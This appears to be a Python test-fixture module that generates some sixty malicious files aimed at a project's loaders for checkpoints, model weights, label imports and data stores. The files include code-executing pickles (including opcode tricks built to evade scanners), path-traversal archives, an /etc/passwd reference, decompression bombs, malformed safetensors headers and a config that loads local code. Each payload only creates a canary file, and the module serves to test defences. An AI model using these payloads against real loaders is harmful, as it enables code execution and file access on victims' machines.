"""Sixty files that an attacker might hand to somebody who loads checkpoints, weights, labels and stores of others.

Each `Attack` writes its file where a loader will look, the same bytes every time. Whoever runs what is inside makes the
canary file. Nothing here is needed to use rlvlm.
"""

import gzip
import io
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from rlvlm.labels.segments import encode_line
from rlvlm.pocket.models import weights_folder

Write = Callable[[Path, Path], None]
"""Writes into a folder, which holds what the loader expects; the second path is the canary."""


@dataclass(frozen=True)
class Attack:
    """One file and the loader that it is meant for."""

    target: str
    """checkpoint, weights, import or store."""
    name: str
    write: Write


class _Call:
    """Unpickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self._call


def payload(canary: Path, protocol: int = 4, wrap: Callable[[Any], Any] = lambda evil: evil) -> bytes:
    """A pickle that makes the canary when it is loaded."""
    return pickle.dumps(wrap(_Call(os.system, f"touch {canary}")), protocol)


def by_eval(canary: Path) -> bytes:
    return pickle.dumps(_Call(eval, f"open({str(canary)!r}, 'w')"), 4)


def by_exec(canary: Path) -> bytes:
    return pickle.dumps(_Call(exec, f"import pathlib; pathlib.Path({str(canary)!r}).touch()"), 2)


def by_instance(canary: Path) -> bytes:
    """The old instruction INST, which calls without a REDUCE."""
    return b"(S'touch %s'\nios\nsystem\n." % str(canary).encode()


def by_object(canary: Path) -> bytes:
    """The old instruction OBJ."""
    return b"(cos\nsystem\nS'touch %s'\no." % str(canary).encode()


def by_memo(canary: Path) -> bytes:
    """The name is fetched from the memo, where a search for GLOBAL next to REDUCE finds nothing."""
    return b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94N0h\x02\x8c%c%s\x85R." % (
        6 + len(str(canary)),
        f"touch {canary}".encode(),
    )


def by_array_state(canary: Path) -> bytes:
    """An array of objects, whose state holds the call."""
    return payload(canary, 4, lambda evil: [np.array([evil], object)] * 7)


def after_good_arrays(canary: Path) -> bytes:
    return payload(canary, 5, lambda evil: [*(np.zeros((1, 2, 4, 3), np.uint8),) * 6, evil])


def hidden_in_dtype(canary: Path) -> bytes:
    return payload(canary, 4, lambda evil: [np.zeros(1), {"dtype": evil}])


def torch_zip(canary: Path, name: str = "archive/data.pkl") -> bytes:
    """As torch.save writes."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), payload(canary, 2))
        archive.writestr(zipfile.ZipInfo("archive/version"), "3\n")
    return data.getvalue()


def torch_legacy(canary: Path) -> bytes:
    """As torch.save wrote before version 1.6: several pickles, one after the other."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return magic + payload(canary, 2) + pickle.dumps([], 2)


def npy(canary: Path) -> bytes:
    data = io.BytesIO()
    np.save(data, np.array([_Call(os.system, f"touch {canary}")], object), allow_pickle=True)
    return data.getvalue()


def npz(members: dict[str, bytes], compress: int = zipfile.ZIP_STORED) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", compress) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress)  # no time of day in it
    return data.getvalue()


def npy_header(text: str, content: bytes = b"") -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode() + content


def msgpack_object_array(canary: Path) -> bytes:
    """As msgpack_numpy writes an array of objects: a map whose data are a pickle."""
    data = payload(canary)
    head = b"\x84\xc4\x02nd\xc3\xc4\x04type\xa1O\xc4\x04kind\xc4\x01O\xc4\x04data\xc5"
    return head + struct.pack(">H", len(data)) + data


def safetensors(header: bytes, content: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + content


def tensor_header(**fields: Any) -> bytes:
    return json.dumps({"layers.0.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]} | fields}).encode()


def tar(canary: Path) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        about = tarfile.TarInfo(f"../../../../../../..{canary}")
        archive.addfile(about, io.BytesIO())
    return gzip.compress(data.getvalue(), mtime=0)


HEADERS: dict[str, bytes] = {
    "header of 2^63 bytes": safetensors(b"{}", length=2**63),
    "header longer than the file": safetensors(b"{}", length=90_000_000),
    "header of a hundred thousand brackets": safetensors(b"[" * 100_000),
    "header that is no JSON": safetensors(b"\xff" * 64),
    "tensor of 2^60 elements": safetensors(tensor_header(shape=[2**30, 2**30]), bytes(16)),
    "offsets outside the file": safetensors(tensor_header(data_offsets=[0, 2**40]), bytes(16)),
    "negative offsets": safetensors(tensor_header(data_offsets=[-16, 0]), bytes(16)),
    "tensors that overlap": safetensors(
        json.dumps({name: {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]} for name in ("a", "b")}).encode(),
        bytes(16),
    ),
    "unknown type": safetensors(tensor_header(dtype="PICKLE"), bytes(16)),
}

PICKLES: dict[str, Callable[[Path], bytes]] = {
    "pickle": payload,
    "pickle in text": lambda canary: payload(canary, 0),
    "pickle that evaluates": by_eval,
    "torch zip": torch_zip,
    "torch legacy": torch_legacy,
    "msgpack with a pickle": msgpack_object_array,
}


def _signed(name: str, content: Callable[[Path], bytes]) -> Write:
    """Puts a file into a checkpoint and its true SHA-256 into the manifest, as an attacker would."""

    def write(folder: Path, canary: Path) -> None:
        import hashlib

        data = content(canary)
        (folder / name).write_bytes(data)
        manifest = json.loads((folder / "manifest.json").read_text())
        (folder / "manifest.json").write_text(json.dumps(manifest | {name: hashlib.sha256(data).hexdigest()}))

    return write


def _checkpoints() -> Iterator[Attack]:
    for name, content in PICKLES.items():
        yield Attack("checkpoint", f"policy.safetensors is a {name}", _signed("policy.safetensors", content))
        yield Attack("checkpoint", f"arrays.npz is a {name}", _signed("arrays.npz", content))
    for name, header in list(HEADERS.items())[:6]:
        yield Attack(
            "checkpoint", f"policy.safetensors: {name}", _signed("policy.safetensors", lambda _, header=header: header)
        )
    arrays: dict[str, Callable[[Path], bytes]] = {
        "an array of objects": lambda canary: npz({"/rate.npy": npy(canary)}),
        "a member outside": lambda canary: npz({f"../../../../../../..{canary}": b"x"}),
        "a bomb of zeros": lambda _: npz({"/rate.npy": bytes(40_000_000)}, zipfile.ZIP_DEFLATED),
        "an array of 2^50 bytes": lambda _: npz(
            {"/rate.npy": npy_header("{'descr': '|u1', 'fortran_order': False, 'shape': (1125899906842624,), }\n")}
        ),
        "a header that calls": lambda canary: npz({"/rate.npy": npy_header(f"__import__('os').mkdir('{canary}')\n")}),
    }
    for name, content in arrays.items():
        yield Attack("checkpoint", f"arrays.npz: {name}", _signed("arrays.npz", content))
    yield Attack("checkpoint", "state.json of brackets", _signed("state.json", lambda _: b'{"a":' * 100_000))
    yield Attack(
        "checkpoint",
        "state.json names an array outside",
        _signed("state.json", lambda _: b'{"x": {"__array__": "../../../../etc/passwd"}}'),
    )


def _replaced(name: str, content: Callable[[Path], bytes]) -> Write:
    return lambda folder, canary: (folder / name).write_bytes(content(canary)) and None


def _pickled_shard(folder: Path, canary: Path) -> None:
    """The index of the weights points to a pickle outside of the folder."""
    (folder.parent / "evil.bin").write_bytes(torch_zip(canary))
    (folder / "model.safetensors").rename(folder / "other.safetensors")
    index = {"metadata": {}, "weight_map": {"lm_head.weight": "../evil.bin"}}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index))


def _own_code(folder: Path, canary: Path) -> None:
    """The config asks for a class from a file in the folder."""
    (folder / "evil.py").write_text(f"open({str(canary)!r}, 'w')\nclass Evil: pass\n")
    config = json.loads((folder / "config.json").read_text())
    own = {"AutoConfig": "evil.Evil", "AutoModelForImageTextToText": "evil.Evil"}
    (folder / "config.json").write_text(json.dumps(config | {"model_type": "evil", "auto_map": own}))


def _only_pickled(folder: Path, canary: Path) -> None:
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(torch_zip(canary))


def _weights() -> Iterator[Attack]:
    for name in ("pickle", "torch zip", "torch legacy"):
        yield Attack("weights", f"model.safetensors is a {name}", _replaced("model.safetensors", PICKLES[name]))
    for name in (
        "header of 2^63 bytes",
        "header longer than the file",
        "header of a hundred thousand brackets",
        "tensor of 2^60 elements",
        "tensors that overlap",
    ):
        yield Attack(
            "weights", f"model.safetensors: {name}", _replaced("model.safetensors", lambda _, name=name: HEADERS[name])
        )
    yield Attack("weights", "only pickled weights", _only_pickled)
    yield Attack("weights", "a shard that is a pickle, outside", _pickled_shard)
    yield Attack("weights", "code of its own", _own_code)
    yield Attack("weights", "config.json is a pickle", _replaced("config.json", payload))
    yield Attack("weights", "config.json of brackets", _replaced("config.json", lambda _: b'{"a":' * 100_000))
    yield Attack("weights", "tokenizer.json is a pickle", _replaced("tokenizer.json", payload))


def _imports() -> Iterator[Attack]:
    contents: dict[str, Callable[[Path], bytes]] = PICKLES | {
        "pickle that executes": by_exec,
        "call without REDUCE": by_instance,
        "call of an OBJ": by_object,
        "call through the memo": by_memo,
        "array of objects": by_array_state,
        "call after good arrays": after_good_arrays,
        "call inside a dtype": hidden_in_dtype,
        "npy of objects": npy,
        "gzip of a pickle": lambda canary: gzip.compress(payload(canary), mtime=0),
        "tar with a path outside": tar,
        "zip with a path outside": lambda canary: npz({f"../../../../../../..{canary}": payload(canary)}),
    }
    for name, content in contents.items():
        yield Attack("import", name, _replaced("labels.pkl", content))


def _line(**record: Any) -> bytes:
    return encode_line(record)


def _store_line(data: Callable[[Path], bytes]) -> Write:
    def write(folder: Path, canary: Path) -> None:
        next((folder / "lines").iterdir()).write_bytes(data(canary))

    return write


def _picture_outside(folder: Path, canary: Path) -> None:
    """A line whose images are named by paths."""
    file = next((folder / "lines").iterdir())
    record = json.loads(file.read_bytes().splitlines()[0][9:])
    record["question"]["left"] = [f"../../../../../../..{canary}"]
    file.write_bytes(encode_line(record))


def _images(data: Callable[[Path], bytes]) -> Write:
    def write(folder: Path, canary: Path) -> None:
        for image in (folder / "pictures").rglob("*.png"):
            image.write_bytes(data(canary))

    return write


def _png_bomb(_: Path) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10_000_000)))


def _stores() -> Iterator[Attack]:
    yield Attack("store", "a segment that is a pickle", _store_line(payload))
    yield Attack("store", "a segment that is a pickle in text", _store_line(lambda canary: payload(canary, 0)))
    yield Attack(
        "store",
        "a checked line of brackets",
        _store_line(lambda _: b"%08x %s\n" % (zlib.crc32(b"[" * 100_000), b"[" * 100_000)),
    )
    yield Attack("store", "a line without end", _store_line(lambda _: b"a" * 9_000_000 + b"\n"))
    yield Attack(
        "store",
        "a checked line that asks for a class",
        _store_line(lambda canary: _line(kind="verdict", key="0" * 64, py_object=f"os.system('touch {canary}')")),
    )
    yield Attack("store", "images named by a path", _picture_outside)
    yield Attack("store", "images that are pickles", _images(payload))
    yield Attack("store", "images that are bombs", _images(_png_bomb))
    yield Attack("store", "a mark that is a pickle", _replaced("store.json", payload))
    yield Attack("store", "a mark of brackets", _replaced("store.json", lambda _: b"[" * 100_000))


ATTACKS = [*_checkpoints(), *_weights(), *_imports(), *_stores()]


def copy_weights(folder: Path) -> None:
    """The shipped pocket judge, to be harmed."""
    shutil.copytree(weights_folder(), folder)
